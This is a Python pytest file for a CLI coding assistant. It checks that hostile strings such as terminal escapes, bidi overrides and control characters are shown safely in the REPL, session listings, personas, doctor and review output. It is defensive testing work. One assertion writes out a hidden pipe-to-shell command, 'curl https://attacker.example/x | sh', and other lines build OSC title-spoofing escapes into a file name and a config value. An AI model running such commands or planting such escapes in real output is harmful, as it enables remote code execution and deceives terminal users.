"""Every hostile string of the corpus through every plain-REPL and CLI output path.

For each path: no crash, no raw escape (ESC, C1, C0 controls, bidi overrides) in what reaches the
terminal, and the text visible as typed (each control character shown by its stand-in).
"""

from __future__ import annotations

import io
import json
import re
from pathlib import Path

import pytest
from prompt_toolkit.input import create_pipe_input
from prompt_toolkit.output import DummyOutput

from backdev.assistant import drain
from backdev.cli import main
from backdev.compose import open_store, start_session
from backdev.fakeapi import FakeAnthropic
from backdev.llm.errors import Failure
from backdev.llm.events import Notice, StreamRetrying, TextDelta, ToolCallFinished, TurnFailed, TurnFinished, Usage
from backdev.llm.scripted import ScriptedProvider, reply, tool_call
from backdev.repl.app import PlainRepl
from backdev.repl.render import TurnPrinter
from backdev.safe_text import is_safe, one_line, visible
from backdev.tools.base import ApprovalRequest, Tool, ToolOutcome, ToolRegistry
from tests.hostile_corpus import HOSTILE, RAW_PAYLOADS, Hostile

from .workflow_helpers import calls


# Text that goes through the session store: all of the corpus, a lone surrogate included (the store
# keeps it as U+FFFD).
STORED = HOSTILE


def assert_safe(output: str) -> None:
    assert is_safe(output), [c for c in output if not is_safe(c)][:5]
    assert not any(payload in output for payload in RAW_PAYLOADS)


def assert_shown(output: str, entry: Hostile, *, width: int = 60) -> None:
    """The entry's text appears as typed, control characters as their stand-ins.

    Files read in text mode and the store's round trip may turn CR and CRLF into newlines (and a
    persona prompt is stripped); that is a line ending, not a hidden character, so that form counts
    as typed too.
    """
    newlines = entry.text.replace("\r\n", "\n").replace("\r", "\n")
    forms = (visible(entry.text), one_line(entry.text), visible(newlines), visible(newlines.strip()))
    assert any(form[:width] in output for form in forms), entry.name


# --- the REPL's turn printer ---------------------------------------------------------------------


def events_for(entry: Hostile) -> list[object]:
    return [
        TextDelta(entry.text[: len(entry.text) // 2]), TextDelta(entry.text[len(entry.text) // 2 :]),
        ToolCallFinished("t1", "read_file", {}, entry.text, True, entry.text),
        StreamRetrying(Failure("interrupted", entry.text), entry.text, 1),
        Notice(entry.text, error=True),
        TurnFailed(Failure("unexpected", entry.text), entry.text),
        TurnFinished(entry.text, "end_turn", Usage()),
    ]


@pytest.mark.parametrize("entry", HOSTILE, ids=lambda h: h.name)
def test_the_turn_printer_shows_every_event_safely(entry: Hostile) -> None:
    out, err = io.StringIO(), io.StringIO()
    printer = TurnPrinter(out, err, markdown=False)
    for event in events_for(entry):
        printer.handle(event)  # type: ignore[arg-type]
    printer.cancelled()
    assert_safe(out.getvalue())
    assert_safe(err.getvalue())
    assert_shown(out.getvalue(), entry)
    assert_shown(err.getvalue(), entry)


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


_OWN_REDRAW = re.compile(r"\r(?:\x1b\[\d+A)?\x1b\[J")  # the printer's move-up-and-clear before the markdown


@pytest.mark.parametrize("entry", HOSTILE, ids=lambda h: h.name)
def test_the_markdown_redraw_renders_sanitised_text(entry: Hostile, monkeypatch: pytest.MonkeyPatch) -> None:
    import os

    monkeypatch.setattr("shutil.get_terminal_size", lambda *a: os.terminal_size((200, 10_000)))
    out = Terminal()
    printer = TurnPrinter(out, io.StringIO(), markdown=True)
    printer.handle(TextDelta(entry.text))
    printer.handle(TurnFinished(entry.text, "end_turn", Usage()))
    rendered = _OWN_REDRAW.sub("", out.getvalue(), count=1)
    assert not any(payload in rendered for payload in RAW_PAYLOADS)
    assert "\x1b]" not in rendered  # no OSC at all: rich shows links as text


# --- the REPL itself: greeting, notes, commands, approvals ---------------------------------------


async def test_the_repl_shows_replies_notes_commands_and_approvals_safely(startup, workspace, scripted: ScriptedProvider) -> None:  # type: ignore[no-untyped-def]
    tools = ToolRegistry()
    tools.register(Tool("write", "w", {"type": "object"}, lambda a: ToolOutcome("done", a["what"]),
                        approval=lambda a: ApprovalRequest("write", "write", a["what"], a["what"])))
    startup = start_session(workspace, open_store(), scripted, tools=tools)
    startup.notes.extend(entry.text for entry in STORED)
    for entry in STORED:
        scripted.enqueue(tool_call("write", {"what": entry.text}), reply(entry.text))
    lines = [f"message {n}" for n in range(len(STORED))]
    with create_pipe_input() as pipe:
        pipe.send_text("".join("y\r" for _ in STORED) + "/sessions\r/quit\r")
        repl = PlainRepl(startup, workspace, interactive=True, prompt_input=pipe, prompt_output=DummyOutput(),
                         out=io.StringIO(), err=io.StringIO())
        await repl.attach()
        repl.greet()
        repl._prompt = repl._make_prompt()
        for line in lines:
            await repl.handle_line(line)
        await repl.handle_line("/sessions")
    out, err = repl.out.getvalue(), repl.err.getvalue()  # type: ignore[attr-defined]
    assert_safe(out)
    assert_safe(err)
    for entry in STORED:
        assert_shown(out, entry)
        assert_shown(err, entry)  # in the notes, the approval title and detail
    # The approval detail is split at newlines only: the hidden command is on the line it is written on.
    assert "    curl https://attacker.example/x | sh␍# harmless comment" in err


async def test_a_resumed_sessions_recent_messages_are_shown_safely(workspace, scripted: ScriptedProvider) -> None:  # type: ignore[no-untyped-def]
    store = open_store()
    first = start_session(workspace, store, scripted)
    for entry in STORED:
        scripted.enqueue(reply(entry.text))
        await drain(first.assistant.send(entry.text))
    resumed = start_session(workspace, store, scripted, resume=True)
    repl = PlainRepl(resumed, workspace, interactive=False, out=io.StringIO(), err=io.StringIO())
    repl.greet()
    assert_safe(repl.err.getvalue())  # type: ignore[attr-defined]
    assert "resumed:" in repl.err.getvalue()  # type: ignore[attr-defined]


# --- the subcommands ---------------------------------------------------------------------------


@pytest.fixture(autouse=True)
def no_log_handler_left_behind():  # type: ignore[no-untyped-def]
    """`main()` in this process sets up the log file of this test's home: remove it afterwards."""
    import logging

    yield
    root = logging.getLogger("backdev")
    for handler in list(root.handlers):
        handler.close()
        root.removeHandler(handler)


def run_cli(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    status = main(list(args))
    captured = capsys.readouterr()
    return status, captured.out, captured.err


async def make_sessions(workspace) -> list[str]:  # type: ignore[no-untyped-def]
    """One session per corpus entry, titled by it, holding it as a message, a reply and a tool call."""
    ids = []
    store = open_store()
    for entry in STORED:
        provider = ScriptedProvider()
        tools = ToolRegistry()
        tools.register(Tool("look", "l", {"type": "object"}, lambda a, text=entry.text: ToolOutcome(text, text)))
        startup = start_session(workspace, store, provider, tools=tools)
        provider.enqueue(tool_call("look", {}), reply(entry.text))
        await drain(startup.assistant.send(entry.text))
        ids.append(startup.assistant.session.id)
    return ids


async def test_sessions_list_show_and_export_show_hostile_rows_safely(
        workspace, project: Path, capsys, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    ids = await make_sessions(workspace)
    monkeypatch.chdir(project)
    status, listing, err = run_cli(capsys, "sessions", "list")
    assert status == 0
    assert_safe(listing + err)
    for session_id, entry in zip(ids, STORED):
        assert session_id in listing
        status, out, err = run_cli(capsys, "sessions", "show", session_id)
        assert status == 0
        assert_safe(out + err)
        assert_shown(out, entry)
        target = tmp_path / f"{entry.name}.md"
        assert run_cli(capsys, "sessions", "export", session_id, "-o", str(target))[0] == 0
        written = target.read_text(encoding="utf-8")
        assert_safe(written)  # `cat transcript.md` is safe too
        assert_shown(written, entry)


def test_personas_list_show_and_doctor_show_hostile_files_safely(project: Path, capsys, monkeypatch: pytest.MonkeyPatch) -> None:  # type: ignore[no-untyped-def]
    agents = project / ".claude" / "agents"
    agents.mkdir(parents=True)
    for n, entry in enumerate(HOSTILE):
        # YAML's double-quoted escapes carry any character; the prompt body is taken as it is.
        description = json.dumps("about " + entry.text[:300])
        (agents / f"hostile{n}.md").write_text(f"---\nname: hostile{n}\ndescription: {description}\n---\n{entry.text}\n",
                                               encoding="utf-8", errors="surrogatepass")
    (agents / "\x1b]0;pwned-title\x07\u202ebad.md").write_text("no front matter\n")
    monkeypatch.chdir(project)
    status, out, err = run_cli(capsys, "personas", "list")
    assert status == 0
    assert_safe(out + err)
    assert "␛]0;pwned-title␇<U+202E>bad.md" in err
    for n, entry in enumerate(HOSTILE):
        status, out, err = run_cli(capsys, "personas", "show", f"hostile{n}")
        assert status == 0, err
        assert_safe(out + err)
        assert_shown(out, entry)
    (project / ".backdev.yaml").write_text('artifacts_dir: "docs/\\e]0;pwned\\a\\u202eevil"\n')
    status, out, err = run_cli(capsys, "doctor")
    assert_safe(out + err)
    assert "␛]0;pwned" in out


@pytest.mark.slow
def test_review_progress_and_report_show_hostile_findings_safely(
        git_repo: Path, fake_api: FakeAnthropic, capsys, monkeypatch: pytest.MonkeyPatch) -> None:  # type: ignore[no-untyped-def]
    (git_repo / "views.py").write_text("def f():\n    return 1\n")
    findings = [{"path": "views.py", "line": 1, "severity": "low", "category": "style", "title": e.text[:200],
                 "detail": e.text, "suggestion": e.text} for e in STORED]
    fake_api.enqueue({"type": "tool_use", "text": "".join(e.text[:100] for e in STORED),
                      "calls": calls(*(("report_finding", f) for f in findings))["calls"]},
                     {"type": "text", "text": "Verdict: " + STORED[0].text})
    monkeypatch.setenv("ANTHROPIC_BASE_URL", fake_api.url)
    monkeypatch.setenv("ANTHROPIC_API_KEY", "test-key")
    monkeypatch.chdir(git_repo)
    status, out, err = run_cli(capsys, "review", "views.py", "--format", "md")
    assert status == 0, err
    assert_safe(out)
    assert_safe(err)
    for entry in STORED:
        assert one_line(entry.text)[:30] in err or visible(entry.text)[:30] in err, entry.name
